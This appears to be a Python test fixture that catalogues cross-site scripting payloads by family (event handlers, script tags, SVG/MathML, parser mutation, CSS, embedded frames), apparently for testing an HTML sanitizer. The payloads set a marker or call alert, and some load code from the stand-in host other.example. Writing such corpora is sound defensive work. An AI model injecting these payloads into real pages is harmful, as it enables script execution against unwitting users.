"""What strangers write to run a script on somebody else's page, by family.

Every text sets `window.pwned`, or calls a dialog, if a browser takes it for what it tries to be. The families are those
that the published cheat sheets name; the texts are our own.
"""

from attacks_markdown import FORMS, MARKDOWN, RUN, SCHEMES

CALL = "alert(1)"

EVENTS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x"onerror="{RUN}">',
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<img src=x\tonerror={RUN}>",
    f"<img src=x\x0conerror={RUN}>",
    f"<img src=`x` onerror={RUN}>",
    f"<img \x00src=x onerror={RUN}>",
    "<img src=x onerror=window&#46;pwned=1>",
    "<img src=x onerror=&#119;indow.pwned=1>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}><summary>a</summary></details>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<object data=x onerror={RUN}></object>",
    f"<a onmouseover={RUN}>a</a>",
    f"<a href=x onclick={RUN}>a</a>",
    f"<p onclick={RUN}>a</p>",
    f"<div style=animation-name:x onanimationstart={RUN}>a</div>",
    f"<marquee onstart={RUN}>a</marquee>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<b onclick\n=\"{RUN}\">a</b>",
    f"a <b/onclick={RUN}>c</b>",
    f"<x onclick={RUN}>a</x>",
    f"<custom-a onfocus={RUN} tabindex=1 autofocus>a</custom-a>",
]

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<script>{CALL}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script>{RUN}",
    f"<<script>{RUN}//<</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//other.example/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"</p><script>{RUN}</script><p>",
    f"</div></li></ol><script>{RUN}</script>",
    f"a <script>{RUN}</script> b",
    f"<div>\n<script>{RUN}</script>\n</div>",
    f"<pre><script>{RUN}</script></pre>",
    f"<?php ?><script>{RUN}</script>",
    f"<!DOCTYPE html><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<![CDATA[ ]]><script>{RUN}</script>",
    f"<!-- a --><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--a--!><script>{RUN}</script>",
    f"<!-- <!-- --> <script>{RUN}</script> -->",
    f"<!-->\n<img src=x onerror={RUN}>\n-->",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\<script>{RUN}</script>",
    f"<\\script>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"\u200b<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
]

FOREIGN = [
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>a</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=href to=javascript:{RUN} /></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>a</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    f"<svg><desc><script>{RUN}</script></desc></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<math href=javascript:{RUN}>a</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>a</maction></math>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math><mtext></p><script>{RUN}</script></mtext></math>",
]

MUTATION = [
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\"></a></style></svg>",
    f"<table><tr><td><svg><desc><td><img src=x onerror={RUN}></td></desc></svg></td></tr></table>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\"></xmp>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<a title=\"`\"><img src=x onerror={RUN}>`\">",
    f"<p title='`<img src=x onerror={RUN}>`'>a</p>",
    f"`<img src=x onerror={RUN}>",
    f"<b title=\"a\n\n<img src=x onerror={RUN}>\n\n\">",
    f"<div title=\"\n\n<script>{RUN}</script>\n\n\">",
]

STYLES = [
    "<style>@import 'data:text/css,*{color:red}';</style>",
    "<style>*{background:url(//other.example/x)}</style>",
    f"<div style=\"background:url(javascript:{RUN})\">a</div>",
    f"<div style=\"width:expression({RUN})\">a</div>",
    "<div style=\"position:fixed;inset:0;z-index:9999\">a</div>",
    "<div style=\"-moz-binding:url(//other.example/x.xml#x)\">a</div>",
    "<link rel=stylesheet href=//other.example/x.css>",
    "<p style='content:url(//other.example/x)'>a</p>",
    "<b style=\"color:red\">a</b>",
    "<table background=javascript:window.pwned=1><tr><td>a</td></tr></table>",
]

EMBEDS = [
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<iframe src=\"data:text/html,<script>parent.pwned=1</script>\"></iframe>",
    f"<object data=javascript:{RUN}></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==\"></object>",
    f"<embed src=javascript:{RUN}>",
    "<embed src=\"data:image/svg+xml,<svg onload='parent.pwned=1' xmlns='http://www.w3.org/2000/svg'/>\">",
    f"<form action=javascript:{RUN}><button>a</button></form>",
    f"<form id=x></form><button form=x formaction=javascript:{RUN}>a</button>",
    f"<isindex action=javascript:{RUN}>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    "<meta http-equiv=refresh content=\"9;url=//other.example/\">",
    "<base href=//other.example/>",
    f"<frameset onload={RUN}><frame></frameset>",
    "<applet code=x></applet>",
    f"<portal src=javascript:{RUN}></portal>",
    "<input type=image src=//other.example/x>",
    "<a id=location name=document>a</a>",
    "<img name=body id=pwned src=//other.example/x>",
    "<input type=hidden name=csrf value=x>",
]


def attacks():
    """All texts, each with the name of its family."""
    families = {
        "event handlers": EVENTS, "scripts": SCRIPTS, "SVG and MathML": FOREIGN, "mutation": MUTATION,
        "styles": STYLES, "embedded pages": EMBEDS, "Markdown": MARKDOWN,
    }
    rows = [(family, text) for family, texts in families.items() for text in texts]
    for name, form in FORMS.items():
        rows += [("addresses, " + name, form.replace("{}", scheme)) for scheme in SCHEMES]
    return rows
